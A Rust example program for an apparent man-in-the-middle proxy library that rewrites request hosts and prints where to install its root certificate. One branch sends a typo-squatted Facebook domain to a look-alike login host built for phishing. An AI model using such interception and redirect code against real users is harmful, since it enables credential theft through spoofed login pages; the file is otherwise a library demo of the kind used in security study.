//! Redirect selected sites somewhere else
//!
//! Requests for example.com, example.org and their subdomains land on a
//! Wikipedia article, and faccbook.com is sent to a look-alike login host.
//!
//! To run:
//! ```bash
//! cargo run --example redirect
//! ```
use tapwire::{MitmProxy, ProxyConfig};
use tracing_subscriber::EnvFilter;

const ARTICLE_HOST: &str = "en.wikipedia.org";
const ARTICLE_PATH: &str = "/wiki/Man-in-the-middle_attack";
const LOOKALIKE_HOST: &str = "www.fakebook.com.required.user-login-auth.online";

#[tokio::main]
async fn main() {
  tracing_subscriber::fmt()
    .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
    .init();

  let mut proxy = match MitmProxy::new(ProxyConfig::default()).await {
    Ok(proxy) => proxy,
    Err(err) => {
      eprintln!("failed to start proxy: {}", err);
      std::process::exit(1);
    }
  };

  proxy.hooks().on_request_fn("redirect", |flow, ctx| {
    let Some(host) = flow.request().pretty_host().map(str::to_ascii_lowercase) else {
      return Ok(());
    };
    if host.ends_with("example.com") || host.ends_with("example.org") {
      flow.set_host(ARTICLE_HOST);
      flow.request_mut().set_path(ARTICLE_PATH);
      flow.record_mutation(format!("redirected to {}{}", ARTICLE_HOST, ARTICLE_PATH));
      ctx.info(format!("{} -> {}", host, ARTICLE_HOST));
    }
    if host.ends_with("faccbook.com") {
      flow.set_host(LOOKALIKE_HOST);
      ctx.info(format!("{} -> {}", host, LOOKALIKE_HOST));
    }
    Ok(())
  });

  println!("Listening on {}", proxy.config().listen_addr);
  if let Some(path) = proxy.ca_cert_path() {
    println!("Install the root certificate from {}", path.display());
  }
  if let Err(err) = proxy.run().await {
    eprintln!("proxy stopped: {}", err);
    std::process::exit(1);
  }
}
